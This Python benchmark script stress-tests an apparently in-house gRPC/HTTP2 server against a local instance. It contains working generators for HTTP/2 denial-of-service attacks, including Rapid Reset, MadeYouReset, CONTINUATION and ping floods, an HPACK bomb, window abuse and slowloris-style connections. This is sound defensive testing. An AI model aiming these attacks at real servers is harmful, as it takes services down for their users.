"""`make bench-abuse`: what clients that mean harm do to a gRPC port, and what a good one beside them notices.

For each attack: what a byte of it costs our HTTP/2, beside a byte of ordinary calls; then, by two attackers at once,
the good client's p99 beside that without an attack, the server's memory and CPU, and what it counted (/metrics).
Attackers have the lowest priority: theirs would be other machines. Exits non-zero when calls of the good client fail,
or memory grows by more than MOST_MIB; latencies are printed and not judged: where the server often waits for a core
("waited", of all the time), they say nothing of it.

    bench/abuse.py [--seconds 5] [--only rapid-reset,…] [--idle 20000]
"""

from __future__ import annotations

import argparse
import contextlib
import os
import re
import resource
import select
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.request import urlopen

from saturnmq.kernel.config import Limits
from saturnmq.kernel.errors import ProtocolError
from saturnmq.net.newcomers import DESCRIPTOR_SHARE
from saturnmq.testing.server import LocalServer
from saturnmq.wire.http2 import frames
from saturnmq.wire.http2.connection import ServerConnection
from saturnmq.wire.http2.frames import Setting, frame
from saturnmq.wire.http2.hpack import encode
from saturnmq.wire.http2.streams import State
from saturnmq.wire.proto import rocketmq_pb2 as pb

ATTACKERS = 2
#: of the good client
CALLS_PER_S = 200
MOST_MIB = 64
#: of an idle connection
MOST_IDLE_KIB = 16
#: connections of the good client and of attackers
SPARE_DESCRIPTORS = 100
PATH = b"/apache.rocketmq.v2.MessagingService/QueryRoute"
HEADERS = [
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", PATH),
    (b":authority", b"bench"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
    (b"x-mq-client-id", b"bench"),
]
BLOCK = encode(HEADERS)
MESSAGE = pb.QueryRouteRequest(topic=pb.Resource(name="bench")).SerializeToString()
BODY = b"\0" + len(MESSAGE).to_bytes(4, "big") + MESSAGE
MOST_STREAM_ID = 0x7FFF_FFF0


def hello(**settings: int) -> bytes:
    return frames.PREFACE + frames.settings({Setting[name.upper()]: value for name, value in settings.items()})


def headers(stream_id: int, flags: int = frames.END_HEADERS) -> bytes:
    return frame(frames.HEADERS, flags, stream_id, BLOCK)


def call(stream_id: int) -> bytes:
    return headers(stream_id) + frame(frames.DATA, frames.END_STREAM, stream_id, BODY)


# ------------------------------------------------------------------------------------------------------ the attacks


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: streams that are opened to be reset."""
    yield hello()
    for stream_id in range(1, MOST_STREAM_ID, 2):
        yield headers(stream_id) + frames.rst_stream(stream_id, 8)


def made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671: streams that we must reset, for what the client does with them."""
    yield hello()
    for stream_id in range(1, MOST_STREAM_ID, 2):
        yield headers(stream_id) + frames.window_update(stream_id, 0)


def continuation_flood() -> Iterator[bytes]:
    yield hello() + headers(1, 0)
    while True:
        yield frame(frames.CONTINUATION, 0, 1, BLOCK)


def empty_continuations() -> Iterator[bytes]:
    yield hello() + headers(1, 0)
    while True:
        yield frame(frames.CONTINUATION, 0, 1)


def settings_flood() -> Iterator[bytes]:
    yield hello()
    while True:
        yield frames.settings({Setting.INITIAL_WINDOW_SIZE: 65_535})


def ping_flood() -> Iterator[bytes]:
    yield hello()
    while True:
        yield frame(frames.PING, 0, 0, bytes(8))


def empty_data() -> Iterator[bytes]:
    yield hello() + headers(1)
    while True:
        yield frame(frames.DATA, 0, 1)


def hpack_bomb() -> Iterator[bytes]:
    """A name of 4000 bytes in the table, then a header block that is nothing but references to it."""
    yield hello()
    entry = b"\x40" + b"\x7f\xa1\x1e" + b"x" * 4000 + b"\0"
    yield frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, 1, BLOCK + entry)
    bomb = BLOCK + b"\xbe" * 12_000
    for stream_id in range(3, MOST_STREAM_ID, 2):
        yield frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream_id, bomb)


def answers_without_a_window() -> Iterator[bytes]:
    """Calls whose answers may not leave."""
    yield hello(initial_window_size=0)
    for stream_id in range(1, MOST_STREAM_ID, 2):
        yield call(stream_id)


def windows_byte_by_byte() -> Iterator[bytes]:
    yield hello(initial_window_size=0)
    for first in range(1, MOST_STREAM_ID, 200):
        yield b"".join(call(stream_id) for stream_id in range(first, first + 200, 2))
        for _ in range(50):
            yield b"".join(frames.window_update(stream_id, 1) for stream_id in range(first, first + 200, 2))


def window_overflow() -> Iterator[bytes]:
    yield hello() + frames.window_update(0, 0x7FFF_FFFF)


def answers_unread() -> Iterator[bytes]:
    """Calls without end by somebody who reads nothing (see `UNREAD`)."""
    yield hello(initial_window_size=0x7FFF_FFFF) + frames.window_update(0, 0x7FFF_0000)
    for stream_id in range(1, MOST_STREAM_ID, 2):
        yield call(stream_id)


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    function.__name__.replace("_", "-"): function
    for function in (
        rapid_reset, made_you_reset, continuation_flood, empty_continuations, settings_flood, ping_flood, empty_data,
        hpack_bomb, answers_without_a_window, windows_byte_by_byte, window_overflow, answers_unread,
    )
}  # fmt: skip
UNREAD = {"answers-unread"}
#: what each of many connections says, a byte a second
SLOW = {
    "slow-preface": frames.PREFACE,
    "slow-headers": hello() + headers(1),
    "slow-body": hello() + headers(1) + frame(frames.DATA, 0, 1, BODY),
}
SLOW_CONNECTIONS = 500
#: batches of frames in one write
WRITE_BYTES = 32_768


def flood(name: str, address: tuple[str, int], end_s: float) -> None:
    """On one connection until the server closes it, then on the next one."""
    while time.monotonic() < end_s:
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=5) as peer:
            said = FLOODS[name]()
            for pieces in batches(said):
                peer.sendall(pieces)
                if name not in UNREAD and select.select([peer], [], [], 0)[0] and not peer.recv(1 << 20):
                    break
                if time.monotonic() >= end_s:
                    return
            peer.shutdown(socket.SHUT_WR)
            while name not in UNREAD and peer.recv(1 << 20):
                pass


def batches(said: Iterator[bytes]) -> Iterator[bytes]:
    batch = b""
    for piece in said:
        batch += piece
        if len(batch) >= WRITE_BYTES:
            yield batch
            batch = b""
    yield batch


def say_slowly(said: bytes, address: tuple[str, int], end_s: float) -> None:
    peers: dict[socket.socket, int] = {}
    while time.monotonic() < end_s:
        while len(peers) < SLOW_CONNECTIONS:
            peers[socket.create_connection(address, timeout=5)] = 0
        for peer, position in list(peers.items()):
            try:
                peer.sendall(said[position : position + 1])
                peers[peer] = position + 1
            except OSError:
                peer.close()
                del peers[peer]
        time.sleep(1)


def connect_without_end(address: tuple[str, int], end_s: float) -> None:
    """Hold what is accepted, and come back for what is not."""
    peers: list[socket.socket] = []
    while time.monotonic() < end_s:
        try:
            peers.append(socket.create_connection(address, timeout=5))
            peers[-1].sendall(hello())
        except OSError:
            del peers[: len(peers) // 2]


def parsing_ns(said: Iterator[bytes], most_bytes: int = 2_000_000) -> float:
    """CPU for each byte until the connection is closed, or so many."""
    connection = ServerConnection(Limits())
    size, begin = 0, time.process_time()
    with contextlib.suppress(ProtocolError):
        for batch in batches(said):
            size += len(batch)
            connection.receive_data(batch, 0)
            while connection.more:
                connection.receive_data(b"", 0)
            answer(connection)
            if size >= most_bytes:
                break
    return (time.process_time() - begin) / size * 1e9


def answer(connection: ServerConnection) -> None:
    """As an echo does, whose answers cost nothing."""
    for stream in list(connection.streams.values()):
        if stream.state == State.HALF_CLOSED_REMOTE and stream.trailers is None:
            connection.respond(stream, BLOCK, b"\0" * 5, b"x" * 100, BLOCK)
    connection.data_to_send()


def ordinary() -> Iterator[bytes]:
    yield hello()
    for stream_id in range(1, MOST_STREAM_ID, 2):
        yield call(stream_id) + frames.window_update(0, 105)


def attack(name: str, address: tuple[str, int], seconds: float) -> None:
    end_s = time.monotonic() + seconds
    if name in FLOODS:
        flood(name, address, end_s)
    elif name in SLOW:
        say_slowly(SLOW[name], address, end_s)
    else:
        connect_without_end(address, end_s)


# ---------------------------------------------------------------------------------------------- what is looked at


class GoodClient:
    """A call at a time, so many a second; how long each took from the moment at which it was due."""

    def __init__(self, address: tuple[str, int]) -> None:
        self._peer = socket.create_connection(address, timeout=30)
        self._peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._peer.sendall(hello(initial_window_size=0x7FFF_FFFF) + frames.window_update(0, 0x7FFF_0000))
        self._buffer = b""
        self._stream_id = -1

    def calls(self, seconds: float) -> list[float]:
        """Milliseconds. Raises OSError, AssertionError when a call fails."""
        took = []
        begin = time.monotonic()
        for number in range(int(seconds * CALLS_PER_S)):
            due = begin + number / CALLS_PER_S
            time.sleep(max(0.0, due - time.monotonic()))
            self._stream_id += 2
            self._peer.sendall(call(self._stream_id))
            self._wait_end()
            took.append((time.monotonic() - due) * 1000)
        return sorted(took)

    def _wait_end(self) -> None:
        while True:
            while len(self._buffer) >= frames.HEADER_BYTES:
                word, flags, stream_id = frames.HEADER.unpack_from(self._buffer)
                end = frames.HEADER_BYTES + (word >> 8)
                if len(self._buffer) < end:
                    break
                payload, self._buffer = self._buffer[frames.HEADER_BYTES : end], self._buffer[end:]
                if word & 0xFF == frames.HEADERS and flags & frames.END_STREAM and stream_id == self._stream_id:
                    assert b"grpc-status\x010" in payload, payload
                    return
            data = self._peer.recv(1 << 20)
            assert data, "the server closed the good client's connection"
            self._buffer += data


@dataclass
class Outcome:
    name: str
    took: list[float] = field(default_factory=list)
    grown_mib: float = 0
    cores: float = 0
    #: share of the time in which the server could have run and had no core
    waited: float = 0
    counted: str = ""

    def p99(self) -> float:
        return self.took[int(len(self.took) * 0.99)]


def cpu_s(pid: int) -> float:
    ticks = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[11:13]
    return sum(map(int, ticks)) / os.sysconf("SC_CLK_TCK")


def waited_s(pid: int) -> float:
    return int(Path(f"/proc/{pid}/schedstat").read_text().split()[1]) / 1e9


def counted(http: str) -> dict[str, int]:
    with urlopen(f"http://{http}/metrics") as page:
        text = page.read().decode()
    found = re.findall(r'(?:limits_hit|protocol_errors)_total\{(?:limit|kind)="(\w+)"\} (\d+)', text)
    return {name: int(number) for name, number in found}


def watch(name: str, server: LocalServer, seconds: float, attackers: list[list[str]]) -> Outcome:
    """A good client for so long, beside the attackers."""
    host, _, port = server.grpc.rpartition(":")
    client = GoodClient((host, int(port)))
    outcome = Outcome(name)
    before, cpu_before, begin = counted(server.http), cpu_s(server.pid), time.monotonic()
    waited_before = waited_s(server.pid)
    memory = peak = server.rss_anon_bytes()
    running = [subprocess.Popen([sys.executable, __file__, *arguments]) for arguments in attackers]
    try:
        good = threading.Thread(target=lambda: outcome.took.extend(client.calls(seconds)), name="good client")
        good.start()
        while good.is_alive():
            good.join(0.1)
            peak = max(peak, server.rss_anon_bytes())
        took_s = time.monotonic() - begin
        outcome.cores = (cpu_s(server.pid) - cpu_before) / took_s
        outcome.waited = (waited_s(server.pid) - waited_before) / took_s
    finally:
        for process in running:
            process.wait()
    outcome.grown_mib = (peak - memory) / (1 << 20)
    after = counted(server.http)
    hits = {limit: number - before.get(limit, 0) for limit, number in after.items()}
    outcome.counted = ", ".join(f"{limit} {number}" for limit, number in hits.items() if number)
    return outcome


def hold_idle(server: LocalServer, count: int, seconds: float, quiet_p99: float) -> bool:
    """`count` connections that said hello and nothing else. Whether they took no more than they may."""
    host, _, port = server.grpc.rpartition(":")
    memory = server.rss_anon_bytes()
    peers = []
    for number in range(count):
        source = f"127.0.{1 + number // 20_000}.1"  # ports of one address end
        peer = socket.create_connection((host, int(port)), timeout=30, source_address=(source, 0))
        peer.sendall(hello())
        peer.recv(frames.HEADER_BYTES)
        peers.append(peer)
    each_kib = (server.rss_anon_bytes() - memory) / count / 1024
    cpu_before = cpu_s(server.pid)
    outcome = watch(f"{count} idle", server, seconds, [])
    print(f"{outcome.name:26}{outcome.p99():8.1f}{outcome.p99() / quiet_p99:7.1f}x  {each_kib:.1f} KiB each, ", end="")
    print(f"{(cpu_s(server.pid) - cpu_before) / seconds:.2f} cores with the good client")
    for peer in peers:
        peer.close()
    return each_kib <= MOST_IDLE_KIB and len(outcome.took) > 0


def most_idle(wanted: int) -> int:
    """As many as the server may take on one port, with as many descriptors as a process can get here; says so when
    that is fewer than are wanted."""
    most = int(Path("/proc/sys/fs/nr_open").read_text())
    with contextlib.suppress(ValueError, OSError):  # needs CAP_SYS_RESOURCE, which root need not have
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    room, needed = hard // DESCRIPTOR_SHARE - SPARE_DESCRIPTORS, (wanted + SPARE_DESCRIPTORS) * DESCRIPTOR_SHARE
    if room < wanted:
        print(f"NOT {wanted} IDLE CONNECTIONS, {room}: for that many the hard limit has to be {needed}, ", end="")
        print(f"here it is {hard} (ulimit -Hn; a port takes a {DESCRIPTOR_SHARE}th of it)")
    return min(room, wanted)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--only", default="")
    parser.add_argument("--idle", type=int, default=20_000)
    parser.add_argument("--attack", nargs=2, help=argparse.SUPPRESS)
    given = parser.parse_args()
    if given.attack:
        os.nice(19)
        name, address = given.attack
        host, _, port = address.rpartition(":")
        attack(name, (host, int(port)), given.seconds)
        return 0
    idle = most_idle(given.idle)  # before the server starts, which inherits the limit
    names = given.only.split(",") if given.only else [*FLOODS, *SLOW, "connections-without-end"]
    failed = []
    with LocalServer() as server:
        watch("warm-up", server, 2, [])
        quiet = watch("no attack", server, given.seconds, [])
        if idle and not hold_idle(server, idle, given.seconds, quiet.p99()):
            failed.append("idle")
        print(f"{'':26}{'ns/byte':>8}{'p99 ms':>8}{'beside':>8}{'+ MiB':>8}{'cores':>7}{'waited':>8}  counted")
        for name in ["no attack", *names]:
            arguments = ["--attack", name, server.grpc, "--seconds", str(given.seconds)]
            outcome = quiet if name == "no attack" else watch(name, server, given.seconds, [arguments] * ATTACKERS)
            if len(outcome.took) < len(quiet.took) or outcome.grown_mib > MOST_MIB:
                failed.append(name)
            said = FLOODS.get(name, ordinary if name == "no attack" else None)
            cost = f"{parsing_ns(said()):.0f}" if said else ""
            print(
                f"{name:26}{cost:>8}{outcome.p99():8.1f}{outcome.p99() / quiet.p99():7.1f}x{outcome.grown_mib:8.1f}"
                f"{outcome.cores:7.2f}{outcome.waited:8.0%}  {outcome.counted}", flush=True,
            )  # fmt: skip
    if failed:
        print(f"over a limit, or good calls failed: {', '.join(failed)}")
    return bool(failed)


if __name__ == "__main__":
    sys.exit(main())
